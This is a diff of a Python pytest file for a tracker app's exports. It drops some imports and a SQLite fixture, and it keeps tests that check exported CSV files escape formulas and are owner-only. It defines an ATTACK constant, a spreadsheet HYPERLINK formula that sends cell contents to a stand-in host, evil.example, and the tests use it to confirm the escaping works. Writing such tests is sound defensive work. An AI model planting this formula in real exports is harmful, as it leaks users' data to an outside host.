@@ -11,11 +11,8 @@ import stat
 import pytest
 
 from tracker import exports
-from tracker.db import database
-from tracker.schema import init_db
 
 from . import factories
-from .conftest import make_app
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 NUMBER_LIKE = "-0123456789."
@@ -104,20 +101,6 @@ def test_research_export_with_notes_escapes_formulas_and_is_private(poisoned, ru
             assert_inert([v for row in csv.reader(fh) for v in row], path.name)
         assert mode(path) == 0o600, path.name
     assert mode(out) == 0o700
-
-
-@pytest.fixture
-def sqlite_app(tmp_path):
-    """A SQLite app whatever database the suite runs on (backups are SQLite's; as tests/test_backup.py)."""
-    previous = database.obj
-    app = make_app(f"sqlite:///{tmp_path / 'live.sqlite3'}")
-    with app.app_context():
-        init_db()
-    database.connect(reuse_if_open=True)
-    yield app
-    database.close()
-    if previous is not None:
-        database.initialize(previous)
 
 
 def test_backups_are_created_readable_by_their_owner_only(sqlite_app, tmp_path, world_readable_umask):
